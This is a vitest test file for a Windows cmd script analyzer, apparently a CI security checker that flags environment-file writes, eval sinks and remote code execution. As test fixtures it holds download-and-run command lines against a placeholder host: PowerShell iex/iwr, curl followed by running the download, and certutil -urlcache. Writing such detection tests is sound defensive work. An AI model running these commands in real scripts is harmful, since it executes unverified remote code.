import { describe, expect, it } from 'vitest';
import { analyzeShell } from './shell-facts.js';
import { at, spanOf } from './test-support/helpers.js';

const cmd = (s: string) => analyzeShell(s, 'cmd');

describe('env file writes (cmd)', () => {
  it('echo X=... >> %GITHUB_ENV% and >> "%GITHUB_OUTPUT%"', () => {
    const s = '@echo off\necho X=%FOO%>> %GITHUB_ENV%\necho Y=1 >> "%GITHUB_OUTPUT%"\n';
    expect(cmd(s).envFileWrites).toEqual([
      { target: 'GITHUB_ENV', ...at(s, 'echo X=%FOO%>> %GITHUB_ENV%'), written: [spanOf(s, 'X=%FOO%')], names: ['X'] },
      { target: 'GITHUB_OUTPUT', ...at(s, 'echo Y=1 >> "%GITHUB_OUTPUT%"'), written: [spanOf(s, 'Y=1')], names: ['Y'] },
    ]);
  });

  it('a ( ... ) block redirected as a whole, and a redirect before the command', () => {
    const s = '(\n  echo B=2\n  echo C="%BAR%"\n) >> %GITHUB_ENV%\n>> %GITHUB_PATH% echo C:\\tools\n';
    expect(cmd(s).envFileWrites).toEqual([
      {
        target: 'GITHUB_ENV',
        ...at(s, '(\n  echo B=2\n  echo C="%BAR%"\n) >> %GITHUB_ENV%'),
        written: [spanOf(s, 'B=2'), spanOf(s, 'C="%BAR%"')],
        names: ['B', 'C'],
      },
      { target: 'GITHUB_PATH', ...at(s, '>> %GITHUB_PATH% echo C:\\tools'), written: [spanOf(s, 'C:\\tools')], names: [] },
    ]);
  });

  it('ignores stderr and other files', () => {
    expect(cmd('echo a 2>> %GITHUB_ENV%\necho b >> out.txt').envFileWrites).toEqual([]);
  });
});

describe('commands, expansions, sinks (cmd)', () => {
  it('call gradlew.bat, npm ci && npm test; REM and :: comments skipped', () => {
    const s = 'REM npm run nope\n:: also %NOPE%\ncall gradlew.bat build\nnpm ci && npm test\n';
    const f = cmd(s);
    expect(f.commands).toEqual([
      { name: 'call', args: ['gradlew.bat', 'build'], ...at(s, 'call gradlew.bat build') },
      { name: 'gradlew', args: ['build'], ...at(s, 'gradlew.bat build') },
      { name: 'npm', args: ['ci'], ...at(s, 'npm ci') },
      { name: 'npm', args: ['test'], ...at(s, 'npm test') },
    ]);
    expect(f.expansions).toEqual([]);
  });

  it('%NAME%, %NAME:~0,5%, !NAME!, quoted or not; %%i and %1 are not variables', () => {
    const s = 'echo "%QUOTED%" %UNQ% %PATH:~0,5% !DELAYED! %%i %1';
    expect(cmd(s).expansions.map((x) => [x.name, x.quoted, s.slice(x.start, x.end)])).toEqual([
      ['QUOTED', true, '%QUOTED%'],
      ['UNQ', false, '%UNQ%'],
      ['PATH', false, '%PATH:~0,5%'],
      ['DELAYED', false, '!DELAYED!'],
    ]);
  });

  it('cmd /c and powershell -Command are eval sinks; iex inside is remote execution', () => {
    const s = 'cmd /c "echo %CMD%"\npowershell -NoProfile -Command "iex (iwr https://a.example/i.ps1)"\n';
    const f = cmd(s);
    expect(f.evalSinks.map((e) => [e.command, s.slice(e.argStart, e.argEnd)])).toEqual([
      ['cmd /c', '"echo %CMD%"'],
      ['powershell -Command', '"iex (iwr https://a.example/i.ps1)"'],
    ]);
    expect(f.expansions.map((x) => [x.name, x.inEvalArgument])).toEqual([['CMD', true]]);
    expect(f.remoteExecutions).toEqual([
      { kind: 'iex', ...spanOf(s, 'iex (iwr https://a.example/i.ps1)'), url: 'https://a.example/i.ps1' },
    ]);
  });

  it('download-then-run: curl -o setup.exe, then setup.exe; certutil too', () => {
    const s = 'curl -L -o setup.exe https://a.example/setup.exe\nsetup.exe /S\n';
    expect(cmd(s).remoteExecutions).toEqual([
      {
        kind: 'download-then-run',
        ...spanOf(s, 'curl -L -o setup.exe https://a.example/setup.exe\nsetup.exe /S'),
        url: 'https://a.example/setup.exe',
        run: spanOf(s, 'setup.exe /S'),
      },
    ]);
    const c = 'certutil -urlcache -split -f https://a.example/t.bat t.bat\ncall t.bat\n';
    expect(cmd(c).remoteExecutions.map((r) => [r.kind, r.url])).toEqual([['download-then-run', 'https://a.example/t.bat']]);
    const verified = 'curl -o t.exe https://a.example/t.exe\ncertutil -hashfile t.exe SHA256 | findstr %SUM%\nt.exe\n';
    expect(cmd(verified).remoteExecutions).toEqual([]);
  });

  it('carets escape operators and continue lines', () => {
    const s = 'echo a ^& b ^\n  c >> %GITHUB_STEP_SUMMARY%';
    expect(cmd(s).envFileWrites).toEqual([
      { target: 'GITHUB_STEP_SUMMARY', start: 0, end: s.length, written: [spanOf(s, 'a ^& b ^\n  c')], names: [] },
    ]);
  });
});
